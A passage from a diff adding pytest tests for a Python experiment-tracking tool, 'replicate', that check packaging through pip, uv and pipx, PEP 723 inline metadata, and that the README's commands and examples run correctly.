+    done = subprocess.run([bare_python, "-O", "-W", "error", str(tmp_path / "copy.py"), "ls"], env={}, cwd=tmp_path, capture_output=True, text=True)
+    assert "Warning" not in done.stderr and "Traceback" not in done.stderr
+
+
+def test_the_inline_metadata_is_what_pep_723_wants():
+    block = re.search(r"(?m)^# /// (?P<type>[a-zA-Z0-9-]+)$\s(?P<content>(^#(| .*)$\s)+)^# ///$", PROGRAM.read_text())
+    assert block["type"] == "script"
+    assert 'requires-python = ">=3.8"' in block["content"] and "PyYAML" in block["content"]
+
+
+def offline(text):
+    """Whether a package manager's messages mean that there is no index to reach."""
+    return re.search("(?i)could not find a version|no matching distribution|connection|network|resolve|timed out|failed to fetch|dns", text)
+
+
+def packaged(directory):
+    """The files that the project ships, copied so that building leaves nothing in the project."""
+    directory.mkdir()
+    for name in ("replicate.py", "pyproject.toml", "README.md", "LICENSE"):
+        if (ROOT / name).exists():
+            shutil.copy(ROOT / name, directory)
+    return directory
+
+
+def test_pip_installs_the_command(tmp_path):
+    environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
+    environment["HOME"] = REAL_HOME
+    source = packaged(tmp_path / "source")
+    subprocess.run([sys.executable, "-m", "venv", str(tmp_path / "venv")], check=True, env=environment)
+    binaries = tmp_path / "venv/bin"
+    done = subprocess.run([str(binaries / "python"), "-m", "pip", "install", "--disable-pip-version-check", str(source)],
+                          env=environment, cwd=tmp_path, capture_output=True, text=True, timeout=170)
+    if done.returncode and (source / "pyproject.toml").exists() and offline(done.stderr):
+        pytest.skip("pip cannot reach a package index")
+    assert done.returncode == 0, done.stderr
+    del environment["HOME"]
+    version = subprocess.run([str(binaries / "replicate"), "--version"], env=environment, cwd=tmp_path, capture_output=True, text=True)
+    assert version.stdout == "replicate %s\n" % replicate.__version__
+    listed = subprocess.run([str(binaries / "python"), "-m", "pip", "show", "replicate-vc"], env=environment, cwd=tmp_path,
+                            capture_output=True, text=True)
+    assert "Name: replicate-vc\n" in listed.stdout and "Version: %s\n" % replicate.__version__ in listed.stdout
+    failed = subprocess.run([str(binaries / "replicate"), "nonsense"], env=environment, cwd=tmp_path, capture_output=True, text=True)
+    assert failed.returncode == 2
+    assert subprocess.run([str(binaries / "python"), "-c", "import replicate; replicate.init"], env=environment, cwd=tmp_path).returncode == 0
+
+
+@pytest.mark.parametrize("runner", [["uv", "run"], ["pipx", "run"]], ids=lambda words: words[0])
+def test_run_with_inline_metadata(tmp_path, runner):
+    shutil.copy(PROGRAM, tmp_path / "replicate.py")
+    if subprocess.run([sys.executable, "-c", "import %s" % runner[0]], capture_output=True).returncode == 0:
+        runner = [sys.executable, "-m", *runner]
+    elif not shutil.which(runner[0]):
+        pytest.skip("%s is not installed" % runner[0])
+    environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
+    environment["HOME"] = REAL_HOME
+    done = subprocess.run([*runner, "./replicate.py", "--version"], env=environment, cwd=tmp_path, capture_output=True, text=True, timeout=170)
+    if done.returncode and offline(done.stderr):
+        pytest.skip("%s cannot reach a package index" % runner[0])
+    assert done.stdout == "replicate %s\n" % replicate.__version__, done.stderr
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 14  The README
+# ------------------------------------------------------------------------------------------------------------------
+
+def readme_blocks(language):
+    """The code blocks of the README in that language."""
+    return re.findall(r"```%s\n(.*?)```" % language, (ROOT / "README.md").read_text(encoding="utf-8"), re.DOTALL)
+
+
+def test_the_first_command_of_the_readme_is_the_demo_and_the_second_runs_the_tests():
+    commands = [line for block in readme_blocks("sh") for line in block.splitlines()]
+    assert commands[0] == "python3 replicate.py demo"
+    assert commands[1].startswith("python3 -m venv .venv && ") and "pytest" in commands[1]
+    assert "python3-venv" in (ROOT / "README.md").read_text(encoding="utf-8")
+
+
+def test_the_training_script_of_the_readme_runs_and_the_library_example_reads_what_it_recorded(tmp_path):
+    pytest.importorskip("sklearn")
+    training, reading = readme_blocks("python")
+    directory = tmp_path / "project"
+    shutil.copy(str(PROGRAM), str(directory))
+    for name, source in (("train.py", training), ("again.py", training.replace("0.001", "0.01"))):
+        (directory / name).write_text(source)
+        subprocess.run([sys.executable, name], check=True, cwd=str(directory), timeout=120)
+    listing = json.loads(run("ls", "--json", cwd=str(directory)).stdout)
+    assert [row["params"]["alpha"] for row in listing] == [0.001, 0.01]
+    reading = reading.replace('get("de7c2fd")', 'get("%s")' % listing[0]["id"][:7])
+    reading = "import matplotlib; matplotlib.use('Agg')\n" + reading.replace(
+        'replicate.Project(repository="s3://my-bucket")', 'replicate.Project(repository="file://.replicate/storage")')
+    run_script(reading, cwd=str(directory))
+    assert (directory / "output/model.joblib").stat().st_size > 0
+    assert len(json.loads(run("ls", "--json", cwd=str(directory)).stdout)) == 1
+
+
+def test_every_command_stands_in_the_readme():
+    table = (ROOT / "README.md").read_text(encoding="utf-8")
+    assert [name for name in replicate.COMMANDS if "`%s" % name not in table] == []
+
+
+def test_every_public_thing_has_a_docstring():
+    missing = [name for name, item in vars(replicate).items() if not name.startswith("_") and callable(item)
+               and getattr(item, "__module__", "") == "replicate" and not (item.__doc__ or "").strip()]
+    missing += ["%s.%s" % (kind, name) for kind in replicate.__all__ if isinstance(getattr(replicate, kind), type)
+                for name, item in vars(getattr(replicate, kind)).items() if not name.startswith("_")
+                and not (item.__doc__ or "").strip()]
+    assert missing == []
